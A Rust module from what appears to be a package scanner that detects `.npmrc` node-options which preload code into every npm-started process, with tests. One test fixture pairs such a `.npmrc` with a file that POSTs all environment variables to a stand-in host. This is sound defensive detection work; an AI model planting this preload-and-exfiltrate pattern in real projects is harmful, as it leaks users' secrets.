//! `.npmrc`: options of Node.js that load code into everything that npm starts in the folder.

/// The command that shows what the options of a `.npmrc` load; none where they load nothing.
pub(super) fn command(text: &str) -> Option<String> {
    let options = text.lines().rev().find_map(|line| {
        let line = line.trim();
        if line.starts_with(['#', ';']) {
            return None;
        }
        let (key, value) = line.split_once('=')?;
        matches!(key.trim(), "node-options" | "node_options").then(|| value.trim())
    })?;
    let options = ['"', '\'']
        .iter()
        .find_map(|quote| options.strip_prefix(*quote)?.strip_suffix(*quote))
        .unwrap_or(options);
    let loads = options.split_whitespace().any(|option| {
        let name = option.split('=').next().unwrap_or(option);
        matches!(
            name,
            "-r" | "--require" | "--import" | "--loader" | "--experimental-loader"
        )
    });
    loads.then(|| format!("node {options} -e 0"))
}

#[cfg(test)]
mod tests {
    use super::command;
    use crate::flow::testing::found;
    use crate::unpack::text_file;
    use customs_model::{SinkKind, Zone};

    #[test]
    fn a_file_that_settings_of_npm_load_runs_when_the_folder_is_used() {
        let sends = |options: &str| {
            let found = found(vec![
                text_file(
                    "package/package.json",
                    r#"{"name": "a", "version": "1.0.0"}"#,
                ),
                text_file("package/.npmrc", options),
                text_file(
                    "package/x.js",
                    "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(process.env) })",
                ),
            ]);
            let mut flows = found.flows.into_iter();
            flows.any(|flow| flow.sink == SinkKind::Network && flow.zone == Zone::Folder)
        };
        assert!(sends("node-options=--require ./x.js\n"));
        assert!(sends(
            "save-exact=true\nnode-options = \"--import=./x.js\"\n"
        ));
        assert!(!sends("node-options=--max-old-space-size=4096\n"));
        assert!(!sends("; node-options=--require ./x.js\n"));
    }

    #[test]
    fn the_last_line_counts() {
        assert_eq!(
            command("node-options=-r ./a.js\nnode-options=-r ./b.js"),
            Some("node -r ./b.js -e 0".to_owned())
        );
        assert_eq!(command("registry=https://a.invalid/"), None);
    }
}
